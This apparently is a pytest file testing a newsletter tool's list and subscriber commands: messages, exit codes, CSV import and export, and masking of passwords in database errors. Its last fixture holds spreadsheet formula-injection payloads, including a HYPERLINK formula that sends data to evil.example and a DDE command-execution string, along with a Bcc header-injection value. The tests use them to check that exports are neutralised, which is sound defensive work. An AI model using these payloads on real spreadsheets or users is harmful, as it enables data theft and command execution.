"""The lists and subscribers commands: output, exit codes and one-line errors."""

from __future__ import annotations

import csv
import io
import json

import click
import pytest

from newsletter.cli import main
from newsletter.cli.subscribers import COMMANDS


def _all_commands():
    for group in COMMANDS:
        yield (group.name,), group
        for name, command in group.commands.items():
            yield (group.name, name), command


@pytest.mark.parametrize("path", [p for p, _ in _all_commands()], ids=" ".join)
def test_every_command_has_help(cli, path):
    command = dict(_all_commands())[path]
    assert command.help and command.help.strip()
    result = cli(*path, "--help")
    assert result.exit_code == 0
    assert command.help.split(".")[0].split("\n")[0].strip() in " ".join(result.output.split())


def test_the_groups_are_registered_on_the_main_command():
    assert isinstance(main.commands["lists"], click.Group)
    assert isinstance(main.commands["subscribers"], click.Group)


def _error_line(result) -> str:
    """The error a failed command printed: exactly one line on stderr."""
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: ")
    return lines[0]


# -- lists ------------------------------------------------------------------------------------


def test_lists_create_list_rename_delete(letter_db, cli):
    result = cli("lists", "create", "weekly", "The weekly letter")
    assert result.exit_code == 0
    assert "Created list 'weekly' (The weekly letter)." in result.output
    cli("subscribers", "add", "ann@example.com", "--list", "weekly", "--confirmed")
    listing = cli("lists", "list")
    assert listing.exit_code == 0
    row = next(line for line in listing.output.splitlines() if line.startswith("weekly"))
    assert row.split()[:5] == ["weekly", "1", "0", "0", "0"]
    assert "The weekly letter" in row

    renamed = cli("lists", "rename", "weekly", "tuesday")
    assert renamed.exit_code == 0 and "Renamed list 'weekly' to 'tuesday'." in renamed.output

    refused = cli("lists", "delete", "tuesday", input="n\n")
    assert refused.exit_code == 1  # declined at the prompt
    assert "tuesday" in cli("lists", "list").output
    deleted = cli("lists", "delete", "tuesday", "--yes")
    assert deleted.exit_code == 0
    assert "Deleted list 'tuesday' (1 membership removed)." in deleted.output


def test_lists_list_on_a_new_newsletter(letter, cli):
    result = cli("lists", "list")
    assert result.exit_code == 0
    assert "No lists yet; 'main' is created" in result.output


def test_lists_errors_are_one_line(letter, cli):
    assert "not a list name" in _error_line(cli("lists", "create", "Weekly"))
    cli("lists", "create", "weekly")
    assert "exists already" in _error_line(cli("lists", "create", "weekly"))
    line = _error_line(cli("lists", "delete", "daily"))
    assert "no list named 'daily' (lists: weekly)" in line


def test_renaming_the_default_list_says_to_update_the_configuration(letter, cli):
    cli("subscribers", "add", "ann@example.com")
    result = cli("lists", "rename", "main", "weekly")
    assert result.exit_code == 0
    assert "default_list is still 'main'" in result.output


def test_a_list_in_use_by_a_campaign_is_not_deleted(letter, cli, sample_issue):
    from newsletter import build, campaign
    from newsletter.config import load
    from newsletter.store import open_store

    cli("lists", "create", "weekly")
    cli("subscribers", "add", "ann@example.com", "--list", "weekly", "--confirmed")
    config = load(letter / "newsletter.toml", environ={})
    with open_store(config) as store:
        campaign.start(store, build.render(config, sample_issue), "weekly", "outbox")
    line = _error_line(cli("lists", "delete", "weekly", "--yes"))
    assert "used by 1 campaign and cannot be deleted" in line
    assert "newsletter lists rename weekly NEW" in line


# -- add, unsubscribe, forget, suppress -------------------------------------------------------


def test_add_then_confirm(letter_db, cli):
    result = cli("subscribers", "add", "ann@example.com", "--name", "Ann Berg")
    assert result.exit_code == 0
    assert "Added ann@example.com to 'main' (pending)" in result.output
    assert "use --confirmed" in result.output
    result = cli("subscribers", "add", "ann@example.com", "--confirmed")
    assert "Confirmed ann@example.com on 'main' (active)." in result.output
    result = cli("subscribers", "add", "ann@example.com")
    assert "already on 'main' (active)" in result.output


def test_an_unsubscribed_address_is_refused_without_confirmed(letter_db, cli):
    cli("subscribers", "add", "ann@example.com", "--confirmed")
    result = cli("subscribers", "unsubscribe", "ann@example.com")
    assert result.exit_code == 0 and "Unsubscribed ann@example.com from 'main'." in result.output
    again = cli("subscribers", "unsubscribe", "ann@example.com")
    assert "already unsubscribed from 'main'" in again.output
    line = _error_line(cli("subscribers", "add", "ann@example.com"))
    assert "unsubscribed from list 'main'" in line and "--confirmed" in line
    result = cli("subscribers", "add", "ann@example.com", "--confirmed")
    assert "Resubscribed ann@example.com to 'main' (active)." in result.output


def test_a_suppressed_address_needs_resubscribe(letter, cli):
    cli("subscribers", "add", "ann@example.com", "--confirmed")
    result = cli("subscribers", "suppress", "ann@example.com", "--reason", "bounced")
    assert "Suppressed ann@example.com (bounced) on every list." in result.output
    assert "already suppressed" in cli("subscribers", "suppress", "ann@example.com").output
    line = _error_line(cli("subscribers", "add", "ann@example.com", "--confirmed"))
    assert "is suppressed (it bounced on" in line and "--confirmed --resubscribe" in line
    result = cli("subscribers", "add", "ann@example.com", "--confirmed", "--resubscribe")
    assert result.exit_code == 0 and "Resubscribed" in result.output


def test_forget(letter_db, cli):
    cli("subscribers", "add", "erin@example.org", "--name", "Erin", "--confirmed")
    result = cli("subscribers", "forget", "erin@example.org")
    assert result.exit_code == 0
    assert "Forgot erin@example.org (was on 'main'); only a one-way hash" in result.output
    assert "erin" not in cli("subscribers", "export").output
    line = _error_line(cli("subscribers", "add", "erin@example.org", "--confirmed"))
    assert "erased on request" in line
    result = cli("subscribers", "forget", "nobody@example.org")
    assert "was not on file; its one-way hash is recorded" in result.output


def test_bad_addresses_and_unknown_subscribers_are_one_line_errors(letter, cli):
    assert "is not a valid email address" in _error_line(cli("subscribers", "add", "ann@"))
    result = cli("subscribers", "add", "ann@example.com", "--name", "A\nBcc: x")
    assert result.exit_code == 0, result.output  # folded onto one line, not refused
    assert json.loads(cli("subscribers", "list", "--format", "json").stdout)[0]["name"] == "A Bcc: x"
    assert "is not a subscriber" in _error_line(cli("subscribers", "unsubscribe", "zed@example.com"))
    line = _error_line(cli("subscribers", "add", "ann@example.com", "--list", "weekly"))
    assert "no list named 'weekly'" in line and "newsletter lists create weekly" in line


# -- import -----------------------------------------------------------------------------------


def test_import_prints_a_summary(letter_db, cli, write):
    write(
        "readers.csv",
        """\
        Email Address,First Name,Last Name
        ann@example.com,Ann,Berg
        bob@,Bob,
        ann@example.com,Ann,Berg
        cid@example.org,Cid,
        """,
    )
    result = cli("subscribers", "import", "readers.csv")
    assert result.exit_code == 0, result.output
    lines = [" ".join(line.split()) for line in result.output.splitlines()]
    assert lines[0] == "Imported readers.csv into list 'main'."
    assert "added 2" in lines
    assert "updated 0" in lines and "unchanged 0" in lines and "kept out 0" in lines
    assert "rejected 1 (written to readers.rejected.csv)" in lines
    assert ("(1 duplicate row merged: the last row for an address wins, for its spelling, name "
            "and attributes; the strictest status is kept)") in lines
    assert any(line.startswith("row 3: 'bob@' is not a valid email address") for line in lines)

    again = cli("subscribers", "import", "readers.csv")
    assert "unchanged 2" in [" ".join(line.split()) for line in again.output.splitlines()]


def test_import_dry_run(letter, cli, write):
    write("readers.csv", "email\nann@example.com\nnope\n")
    result = cli("subscribers", "import", "readers.csv", "--dry-run")
    assert result.exit_code == 0
    assert result.output.startswith("Dry run of readers.csv into list 'main': nothing was changed.")
    assert "(would be written to readers.rejected.csv)" in result.output
    assert not (letter / "readers.rejected.csv").exists()
    assert not (letter / "newsletter.db").exists()  # a scratch database stood in
    assert "added 1" in " ".join(result.output.split())
    assert "No members." in cli("subscribers", "list").stderr
    # On an existing database the dry run reads the real thing.
    cli("subscribers", "add", "ann@example.com", "--confirmed")
    result = cli("subscribers", "import", "readers.csv", "--dry-run")
    assert "unchanged 1" in " ".join(result.output.split())
    assert "No members." not in cli("subscribers", "list").stderr


def test_import_errors_are_one_line_and_change_nothing(letter, cli, write):
    line = _error_line(cli("subscribers", "import", "missing.csv"))
    assert "missing.csv: file not found" in line
    assert not (letter / "newsletter.db").exists()  # not even created

    write("people.csv", "who,contact\nAnn,ann@example.com\n")
    line = _error_line(cli("subscribers", "import", "people.csv"))
    assert "no email column (columns found: 'who', 'contact')" in line
    assert "--email-column" in line
    assert "added 1" in " ".join(
        cli("subscribers", "import", "people.csv", "--email-column", "contact").output.split()
    )

    (letter / "people.xlsx").write_bytes(b"PK\x03\x04" + b"\x00" * 64)
    assert "is a spreadsheet, not CSV" in _error_line(cli("subscribers", "import", "people.xlsx"))

    line = _error_line(
        cli("subscribers", "import", "people.csv", "--email-column", "contact", "--list", "weekly")
    )
    assert "no list named 'weekly' (lists: main)" in line


def test_an_unreachable_database_is_one_line_with_the_password_masked(letter, cli, monkeypatch, write):
    monkeypatch.setenv(
        "NEWSLETTER_DATABASE_URL", "postgresql+psycopg://letter:s3cret-pw@127.0.0.1:1/letters"
    )
    write("readers.csv", "email\nann@example.com\n")
    for args in (("subscribers", "import", "readers.csv"), ("subscribers", "list"), ("lists", "list")):
        result = cli(*args)
        line = _error_line(result)
        assert "postgresql+psycopg://letter:***@127.0.0.1:1/letters" in line
        assert "s3cret-pw" not in result.output


def test_an_unreachable_database_masks_a_password_in_the_query_string(letter, cli, monkeypatch):
    monkeypatch.setenv(
        "NEWSLETTER_DATABASE_URL",
        "postgresql+psycopg://letter@127.0.0.1:1/letters?sslmode=disable&password=s3cret-pw",
    )
    for args in (("subscribers", "list"), ("lists", "list")):
        result = cli(*args)
        line = _error_line(result)
        assert "postgresql+psycopg://letter@127.0.0.1:1/letters?sslmode=disable&password=***" in line
        assert "s3cret-pw" not in result.output


def test_rejected_rows_are_written_to_the_current_folder_and_the_summary_says_where(
    letter_db, cli, tmp_path
):
    theirs = tmp_path / "shared"
    theirs.mkdir()
    (theirs / "readers.csv").write_text("email,name\nann@example.com,Ann\nbob@,Bob\n")
    result = cli("subscribers", "import", str(theirs / "readers.csv"))
    assert result.exit_code == 0, result.output
    lines = [" ".join(line.split()) for line in result.output.splitlines()]
    assert "rejected 1 (written to readers.rejected.csv)" in lines
    assert (tmp_path / "readers.rejected.csv").exists()  # tmp_path is the current folder
    assert not (theirs / "readers.rejected.csv").exists()

    result = cli("subscribers", "import", str(theirs / "readers.csv"), "--rejects", "out/fix.csv",
                 "--dry-run")
    assert "(would be written to out/fix.csv)" in " ".join(result.output.split())
    (tmp_path / "out").mkdir()
    result = cli("subscribers", "import", str(theirs / "readers.csv"), "--rejects", "out/fix.csv")
    assert "rejected 1 (written to out/fix.csv)" in [" ".join(ln.split()) for ln in result.output.splitlines()]
    assert len((tmp_path / "out" / "fix.csv").read_text().splitlines()) == 2  # header, bob

    line = _error_line(cli("subscribers", "import", str(theirs / "readers.csv"), "--rejects",
                           "missing/fix.csv"))
    assert "missing/fix.csv: cannot write the rejected rows there" in line
    assert "--rejects FILE" in line


# -- list, export, stats ----------------------------------------------------------------------


@pytest.fixture
def filled(letter_db, cli, write):
    cli("lists", "create", "weekly")
    write(
        "readers.csv",
        """\
        email,name,city
        ann@example.com,Ann Berg,Oslo
        bob@example.org,Bob,
        cid@example.net,Cid Ødegård,Bergen
        """,
    )
    cli("subscribers", "import", "readers.csv")
    cli("subscribers", "add", "dan@example.com", "--name", "Dan")
    cli("subscribers", "unsubscribe", "bob@example.org")
    cli("subscribers", "suppress", "cid@example.net", "--reason", "complained")
    cli("subscribers", "add", "eve@example.com", "--list", "weekly", "--confirmed")
    return letter_db


def test_list_as_a_table(filled, cli):
    result = cli("subscribers", "list")
    assert result.exit_code == 0
    rows = [line.split() for line in result.stdout.splitlines()]
    assert rows[0] == ["EMAIL", "NAME", "STATUS", "JOINED"]
    assert [(r[0], r[-2]) for r in rows[1:]] == [
        ("ann@example.com", "active"),
        ("bob@example.org", "unsubscribed"),
        ("cid@example.net", "complained"),
        ("dan@example.com", "pending"),
    ]
    # Counted by status: the unsubscribed and the suppressed are not members you can mail.
    assert result.stderr.strip() == "4 members: 1 active, 1 pending, 1 unsubscribed, 1 complained"
    one = cli("subscribers", "list", "--list", "weekly")
    assert one.stderr.strip() == "1 member: 1 active"


def test_list_filters_by_status_and_list(filled, cli):
    result = cli("subscribers", "list", "--status", "active", "--format", "csv")
    emails = [row["email"] for row in csv.DictReader(io.StringIO(result.stdout))]
    assert emails == ["ann@example.com"]
    result = cli("subscribers", "list", "--list", "weekly", "--format", "json")
    assert [m["email"] for m in json.loads(result.stdout)] == ["eve@example.com"]
    result = cli("subscribers", "list", "--all-lists", "--format", "json")
    assert len(json.loads(result.stdout)) == 5
    assert cli("subscribers", "list", "--status", "gone").exit_code == 2  # click's usage error


def test_export_of_an_unknown_list_writes_nothing(filled, cli):
    result = cli("subscribers", "export", "--list", "monthly")
    assert "no list named 'monthly' (lists: main, weekly)" in _error_line(result)
    assert result.stdout == ""


def test_export_as_csv_and_json(filled, cli):
    result = cli("subscribers", "export")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == [
        "email", "name", "status", "list", "source", "created_at", "confirmed_at",
        "unsubscribed_at", "attributes",
    ]
    by_email = {r["email"]: r for r in rows}
    assert by_email["ann@example.com"]["status"] == "active"
    assert json.loads(by_email["ann@example.com"]["attributes"]) == {"city": "Oslo"}
    assert by_email["bob@example.org"]["unsubscribed_at"].endswith("Z")
    assert by_email["cid@example.net"]["name"] == "Cid Ødegård"

    data = json.loads(cli("subscribers", "export", "--format", "json").stdout)
    assert {m["email"]: m["status"] for m in data} == {
        "ann@example.com": "active",
        "bob@example.org": "unsubscribed",
        "cid@example.net": "complained",
        "dan@example.com": "pending",
    }
    assert data[0]["attributes"] == {"city": "Oslo"}


def test_an_export_imports_back_unchanged_and_keeps_leavers_out(filled, cli, letter):
    exported = cli("subscribers", "export").stdout
    (letter / "backup.csv").write_text(exported, encoding="utf-8")
    result = cli("subscribers", "import", "backup.csv")
    words = [" ".join(line.split()) for line in result.output.splitlines()]
    assert "unchanged 2" in words and "added 0" in words
    assert any(w.startswith("kept out 2 (unsubscribed, bounced") for w in words)
    # Into a fresh list, the people who left stay out there too.
    cli("lists", "create", "restored")
    result = cli("subscribers", "import", "backup.csv", "--list", "restored")
    words = [" ".join(line.split()) for line in result.output.splitlines()]
    assert "added 2" in words and any(w.startswith("kept out 2 ") for w in words)
    restored = json.loads(cli("subscribers", "list", "--list", "restored", "--format", "json").stdout)
    # The suppressed address is not even put on the new list; the leaver is, as left.
    assert {m["email"]: m["status"] for m in restored} == {
        "ann@example.com": "active",
        "bob@example.org": "unsubscribed",
        "dan@example.com": "pending",
    }


def test_stats(filled, cli):
    result = cli("subscribers", "stats")
    assert result.exit_code == 0
    lines = result.output.splitlines()
    header = lines[0].split()
    assert header == ["LIST", "ACTIVE", "PENDING", "UNSUBSCRIBED", "BOUNCED", "COMPLAINED", "MANUAL"]
    rows = {line.split()[0]: line.split()[1:] for line in lines[1:3]}
    assert rows == {"main": ["1", "1", "1", "0", "1", "0"], "weekly": ["1", "0", "0", "0", "0", "0"]}
    weeks = [line for line in lines if line[:4].isdigit()]
    assert len(weeks) == 8
    assert weeks[-1].split()[1:] == ["4", "1", "1"]  # joins (ann, bob, cid, eve), leaves, suppressed
    assert "Subscribers on file: 5; suppressed addresses: complained 1." in result.output


def test_a_big_import_on_a_terminal_shows_a_progress_bar(tmp_path, monkeypatch):
    import sys

    from newsletter.cli import subscribers as commands

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    screen = Terminal()
    monkeypatch.setattr(sys, "stderr", screen)
    monkeypatch.setattr(commands, "PROGRESS_MIN_BYTES", 10)
    path = tmp_path / "big.csv"
    path.write_text("email\n" + "a@example.com\n" * 50, encoding="utf-8")
    with commands._progress(path) as update:
        assert update is not None
        update(path.stat().st_size // 2)
        update(path.stat().st_size)
    assert "Importing" in screen.getvalue() and "100%" in screen.getvalue()
    # Not on a terminal, or a small file: no bar.
    monkeypatch.setattr(sys, "stderr", io.StringIO())
    with commands._progress(path) as update:
        assert update is None


def test_the_status_choices_are_the_statuses():
    from newsletter import subscribers
    from newsletter.cli.subscribers import STATUS_CHOICES

    assert STATUS_CHOICES == subscribers.STATUSES


FORMULA_NAMES = {
    "eve@example.com": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "fay@example.com": "+cmd|' /C calc'!A0",
    "gus@example.com": "@SUM(1+1)",
    "hal@example.com": "-2+3",
    "ida@example.com": "Ida;=1+2",
}


@pytest.fixture
def formulas(letter_db, cli, write):
    rows = "".join(f'{email},"{name.replace(chr(34), chr(34) * 2)}",=cmd\n'
                   for email, name in FORMULA_NAMES.items())
    write("hostile.csv", "email,name,city\n" + rows)
    result = cli("subscribers", "import", "hostile.csv")
    assert "added 5" in " ".join(result.output.split())
    return letter_db


@pytest.mark.parametrize("command", [("export",), ("list", "--format", "csv")])
def test_csv_output_never_holds_a_formula_a_spreadsheet_would_run(formulas, cli, command):
    result = cli("subscribers", *command)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].startswith('"email","name","status",')
    assert all(line.startswith('"') and line.endswith('"') for line in lines)  # all quoted
    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
    assert len(rows) == 5
    for row in rows:
        email, name = row[0], row[1]
        assert name == "'" + FORMULA_NAMES[email]
        # Inside the JSON, "=cmd would start a cell for a reader that splits at quotes.
        assert row[-1] == """'{"city": "=cmd"}"""
    for cell in (c for row in rows for c in row):
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_the_json_export_is_exact_and_the_csv_export_imports_back_as_it_was(formulas, cli, letter):
    data = json.loads(cli("subscribers", "export", "--format", "json").stdout)
    assert {m["email"]: m["name"] for m in data} == FORMULA_NAMES
    assert all(m["attributes"] == {"city": "=cmd"} for m in data)

    (letter / "backup.csv").write_text(cli("subscribers", "export").stdout, encoding="utf-8")
    cli("lists", "create", "restored")
    result = cli("subscribers", "import", "backup.csv", "--list", "restored")
    assert "added 5" in " ".join(result.output.split())
    restored = json.loads(cli("subscribers", "export", "--list", "restored", "--format", "json").stdout)
    assert {m["email"]: m["name"] for m in restored} == FORMULA_NAMES
    assert all(m["attributes"] == {"city": "=cmd"} for m in restored)
